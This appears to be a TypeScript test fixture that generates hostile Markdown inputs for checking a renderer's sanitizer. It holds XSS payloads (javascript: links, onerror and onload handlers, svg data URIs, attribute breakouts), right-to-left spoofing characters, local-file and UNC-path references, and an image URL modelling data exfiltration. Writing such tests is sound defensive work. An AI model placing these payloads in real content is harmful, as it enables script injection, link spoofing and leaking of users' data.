import { hostileAddresses } from './addresses';
import { RUN } from './run';

/** Markdown that leads somewhere, fetches a picture, or hides what it leads to. */
export function hostileMarkdown(site: string): readonly string[] {
  return [...links(site), ...pictures(site)];
}

function links(site: string): readonly string[] {
  const addresses = hostileAddresses(site);
  return [
    // The forms of a link take turns, so that each address is in one and each form has many.
    ...addresses.map((address, index) => linkOf(index, address)),
    `[https://example.org](${site}/other-than-it-says)`,
    `[https://example.org/\u202Egro.live](${site}/turned)`,
    `[a](${site}/title "https://example.org\u202E")`,
    `[ ](${site}/blank)`,
    `[](${site}/empty)`,
    `[![](${site}/nested.png)](${site}/nested-link)`,
    `[x](<javascript:${RUN}>)`,
    `[x](<java\nscript:${RUN}>)`,
    `[x](javascript:${RUN} "title)")`,
    `[x]( javascript:${RUN} )`,
    `[x](java\\script:${RUN})`,
    `[x](${site}/quotes"onmouseover="${RUN})`,
    `${site}/autolink"onmouseover="${RUN}`,
    `www.example.org/"><img src=x onerror=${RUN}>`,
    `<${site}/angle>`,
    `<javascript:${RUN}>`,
    `<xmpp:a@example.org>`,
    `a@example.org`,
    `mailto:a@example.org xmpp:a@example.org/x`,
    `[^1]\n\n[^1]: javascript:${RUN} ${site}/footnote`,
    `[^javascript:${RUN}]\n\n[^javascript:${RUN}]: x`,
    `[^"><img src=x onerror=${RUN}>]\n\n[^"><img src=x onerror=${RUN}>]: x`,
    `[x][__proto__]\n\n[__proto__]: javascript:${RUN}`,
    `[x][constructor] [toString] [hasOwnProperty]`,
    `\`\`\`js onload=${RUN}\n${RUN}\n\`\`\``,
    `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
    `\`\`\`__proto__\nx\n\`\`\``,
    `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"]; click A "javascript:${RUN}"\n\`\`\``,
    `$$\\href{javascript:${RUN}}{x} \\includegraphics{${site}/math.png}$$`,
    `<!-- --!><img src=x onerror=${RUN}> -->`,
    `| <script>${RUN}</script> | [x](javascript:${RUN}) |\n|---|---|\n| ![](${site}/cell.png) | <b onclick=${RUN}>x</b> |`,
    `- [x] <input type=checkbox onclick=${RUN}>\n- [ ] [x](javascript:${RUN})`,
    `# <a name=x href="javascript:${RUN}">heading</a>\n\nSetext ![](${site}/setext.png)\n===`,
    `> [x](javascript:${RUN})\n> <iframe src="${site}/quoted"></iframe>`,
    `&#x202E;txt.exe&#x202C; &rlm;x&lrm; pass&shy;word &ZeroWidthSpace;&NoBreak;&#xE0041;`,
    `\`&#x202E;\` [\u202Ex](${site}/isolate "&#x202E;")`,
  ];
}

function linkOf(index: number, address: string): string {
  const inAngles = `<${address.replaceAll(/[<>\n]/g, '')}>`;
  switch (index % 5) {
    case 0:
      return `[click](${inAngles})`;
    case 1:
      return `[click](${address})`;
    case 2:
      return `[click][there]\n\n[there]: ${inAngles} "title"`;
    case 3:
      return `<a href="${address}">click</a> [click](${inAngles} 'title')`;
    default:
      return `${address} [there]\n\n[there]: ${inAngles}`;
  }
}

function pictures(site: string): readonly string[] {
  return [
    `![words](${site}/inline.png)`,
    `![words](<${site}/angles.png> "title")`,
    `![words][picture]\n\n[picture]: ${site}/reference.png`,
    `![picture][]\n\n[picture]: ${site}/collapsed.png`,
    `![picture]\n\n[picture]: ${site}/shortcut.png`,
    `![a ![b](${site}/inner.png) c](${site}/outer.png)`,
    `![](//${new URL(site).host}/protocol-relative.png)`,
    `![](data:image/svg+xml,<svg onload=${RUN}>)`,
    `![](javascript:${RUN})`,
    `![](file:///etc/hosts)`,
    `![](app://taskwright/index.html)`,
    `![" onerror="${RUN}](${site}/alternative.png)`,
    `![x](${site}/title.png "${RUN}\\" onerror=\\"${RUN}")`,
    `![\u202Egnp](${site}/turned.png)`,
    `![x](${site}/track.png?secret=everything-above)`,
    `<img src="${site}/image.png" onload=${RUN}>`,
    `<img srcset="${site}/one.png 1x, ${site}/two.png 2x">`,
    `<img loading=lazy src="${site}/lazy.png" fetchpriority=high>`,
    `<picture><source srcset="${site}/source.png"><img src="${site}/picture.png"></picture>`,
    `<video src="${site}/video.mp4" poster="${site}/poster.png" autoplay></video>`,
    `<video><source src="${site}/source.mp4"><track src="${site}/track.vtt" default></video>`,
    `<audio src="${site}/audio.mp3" autoplay></audio>`,
    `<input type=image src="${site}/input.png">`,
    `<body background="${site}/body.png">`,
    `<img src="\\\\${new URL(site).host}\\share\\picture.png">`,
  ];
}
